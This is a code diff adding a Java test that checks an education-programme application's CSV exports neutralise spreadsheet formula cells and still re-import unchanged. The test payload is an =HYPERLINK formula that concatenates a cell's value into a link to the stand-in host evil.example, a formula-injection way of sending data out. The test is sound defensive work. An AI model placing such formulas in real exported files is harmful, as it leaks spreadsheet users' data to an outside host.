@@ -146,6 +146,32 @@ class HostileInputTest extends ApiTest {
         assertThat(ru.workready.data.csv.CsvCells.cell(hostile, ';')).startsWith("\"'=HYPERLINK");
     }
 
+    @Test
+    void programmeAndMappingExportsNeutralizeFormulaCellsAndStillRoundTrip() throws Exception {
+        String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";
+        long college = programmes.insertCollege("FORMULA2-" + UUID.randomUUID().toString().substring(0, 8),
+                "Колледж с формулами", "Тест");
+        Programme original = new Programme("09.02.07", "@Программа", "-Программист", 5, 2025,
+                List.of(new ActivityKind("ВД 1", "ПМ.01", "+Разработка")),
+                List.of(new Outcome("ПК 1.1", OutcomeKind.PROFESSIONAL, "Формировать алгоритмы", "ВД 1"),
+                        new Outcome("ПК 1.2", OutcomeKind.PROFESSIONAL, hostile, "ВД 1")));
+        long programme = programmes.insert(college, original);
+        MockHttpServletResponse r = call(get("/api/programmes/" + programme + "/csv"));
+        assertThat(r.getStatus()).isEqualTo(200);
+        String csv = r.getContentAsString(StandardCharsets.UTF_8);
+        assertThat(csv).contains("'=HYPERLINK").contains("'@Программа").contains("'-Программист")
+                .contains("'+Разработка").doesNotContain(";=HYPERLINK").doesNotContain("\"=HYPERLINK");
+        // importing the export again gives the programme back, names unchanged
+        assertThat(ru.workready.data.programmes.ProgrammeFormat.readCsv(csv.getBytes(StandardCharsets.UTF_8)))
+                .isEqualTo(original);
+
+        long set = mappings.importCsv(programme, standards.currentEdition("06.001").orElseThrow(), "formula test",
+                "outcome_code,function_code,type,weight\nПК 1.2,A/01.3,EXACT,1.0\n".getBytes(StandardCharsets.UTF_8));
+        MockHttpServletResponse m = call(get("/api/mapping-sets/" + set + "/csv"));
+        assertThat(m.getStatus()).isEqualTo(200);
+        assertThat(m.getContentAsString(StandardCharsets.UTF_8)).contains("ПК 1.2;A/01.3;;EXACT;1;false");
+    }
+
     private static void assertNoLeak(MockHttpServletResponse r) throws Exception {
         assertThat(r.getContentAsString(StandardCharsets.UTF_8))
                 .doesNotContain("Exception").doesNotContain("\tat ").doesNotContain("at ru.workready")
